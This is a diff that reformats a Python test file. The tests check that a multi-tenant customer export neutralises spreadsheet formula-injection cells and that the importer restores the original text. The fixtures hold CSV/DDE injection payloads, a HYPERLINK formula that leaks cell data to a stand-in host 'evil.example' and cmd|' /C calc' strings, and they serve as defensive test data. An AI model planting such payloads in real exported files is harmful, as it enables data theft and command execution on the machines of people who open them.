@@ -23,8 +23,13 @@ from core.tenancy import tenant_session
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 RISKY = {
-    "X1": {"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "city": "@SUM(1+1)*cmd|' /C calc'!A0",
-           "address": "-2+3+cmd|' /C calc'!A0", "tags": ["+1+1", "=cmd"], "phones": ["13800138000"]},
+    "X1": {
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+        "city": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "address": "-2+3+cmd|' /C calc'!A0",
+        "tags": ["+1+1", "=cmd"],
+        "phones": ["13800138000"],
+    },
     "X2": {"name": "'=already quoted", "city": "-", "phones": ["+886 912 345 678"]},
     "X3": {"name": "王芳", "city": "北京", "emails": ["wang@example.com"]},
 }
@@ -40,8 +45,10 @@ def risky_tenant(make_tenant, make_customer):
 
 def _stored(engine, tenant) -> dict[str, tuple]:
     with tenant_session(engine, tenant.id) as session:
-        return {c.external_id: (c.name, c.phone, c.email, c.city, c.address, c.tags)
-                for c in session.scalars(select(Customer))}
+        return {
+            c.external_id: (c.name, c.phone, c.email, c.city, c.address, c.tags)
+            for c in session.scalars(select(Customer))
+        }
 
 
 def _dangerous(cell: str) -> bool:
@@ -54,7 +61,7 @@ def test_csv_export_writes_no_cell_a_spreadsheet_would_run(guanxi_engine, risky_
     with target.open(encoding="utf-8-sig", newline="") as handle:
         cells = [cell for row in csv.reader(handle) for cell in row]
     assert not [c for c in cells if _dangerous(c)]
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点我")' in cells
     assert "'+8613800138000" in cells and "'-" in cells
 
 
@@ -70,8 +77,7 @@ def test_xlsx_export_has_only_text_cells_and_no_formula(guanxi_engine, risky_ten
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
-def test_neutralised_cells_import_back_as_the_original_text(guanxi_engine, risky_tenant, tmp_path,
-                                                            suffix):
+def test_neutralised_cells_import_back_as_the_original_text(guanxi_engine, risky_tenant, tmp_path, suffix):
     before = _stored(guanxi_engine, risky_tenant)
     target = tmp_path / f"out{suffix}"
     export_customers(engine=guanxi_engine, tenant=risky_tenant, target=target)
@@ -82,7 +88,8 @@ def test_neutralised_cells_import_back_as_the_original_text(guanxi_engine, risky
 
 
 def test_an_exported_file_imported_into_another_tenant_stores_the_original_text(
-        guanxi_engine, risky_tenant, make_tenant, tmp_path):
+    guanxi_engine, risky_tenant, make_tenant, tmp_path
+):
     target = tmp_path / "out.csv"
     export_customers(engine=guanxi_engine, tenant=risky_tenant, target=target)
     other = make_tenant()
@@ -91,20 +98,20 @@ def test_an_exported_file_imported_into_another_tenant_stores_the_original_text(
     assert _stored(guanxi_engine, other) == _stored(guanxi_engine, risky_tenant)
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+8613800138000", "-5", "@cmd", "\tx", "\rx", "'=x",
-                                  "''+x", "'", "'plain", "plain", "", "-"])
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "+8613800138000", "-5", "@cmd", "\tx", "\rx", "'=x", "''+x", "'", "'plain", "plain", "", "-"],
+)
 def test_neutralising_is_undone_exactly_by_the_importer(text):
     written = neutralise(text)
     assert not _dangerous(written)
     assert unquote(written) == text
 
 
-def test_the_rejects_report_of_an_upload_neutralises_what_the_file_said(
-        make_tenant, make_user, api_client):
+def test_the_rejects_report_of_an_upload_neutralises_what_the_file_said(make_tenant, make_user, api_client):
     client = api_client(make_user(make_tenant(), "manager"))
     content = "编号,姓名,手机\n=1+2,王芳,not-a-phone\n@A1,,13800138000\n".encode()
-    body = client.post("/api/v1/imports/customers",
-                       files={"file": ("list.csv", content, "text/csv")}).json()
+    body = client.post("/api/v1/imports/customers", files={"file": ("list.csv", content, "text/csv")}).json()
     assert body["rejected"] == 2
     report = client.get(f"/api/v1/imports/{body['job_id']}/rejects.csv").content.decode("utf-8-sig")
     cells = [cell for row in csv.reader(report.splitlines()) for cell in row]
@@ -112,14 +119,16 @@ def test_the_rejects_report_of_an_upload_neutralises_what_the_file_said(
     assert "'=1+2" in cells and "'@A1" in cells
 
 
-def test_the_cli_rejects_file_neutralises_what_the_file_said(guanxi_engine, tenant, write_csv,
-                                                             tmp_path: Path):
+def test_the_cli_rejects_file_neutralises_what_the_file_said(
+    guanxi_engine, tenant, write_csv, tmp_path: Path
+):
     from core.cli.main import build_cli
 
     source = write_csv([["编号", "姓名", "手机"], ["-1-1", "王芳", "not-a-phone"]])
     rejects = tmp_path / "rejects.csv"
-    result = CliRunner().invoke(build_cli(), ["import", "customers", str(source), "--tenant",
-                                              tenant.slug, "--rejects", str(rejects)])
+    result = CliRunner().invoke(
+        build_cli(), ["import", "customers", str(source), "--tenant", tenant.slug, "--rejects", str(rejects)]
+    )
     assert result.exit_code == 0, result.output
     with rejects.open(encoding="utf-8-sig", newline="") as handle:
         cells = [cell for row in csv.reader(handle) for cell in row]
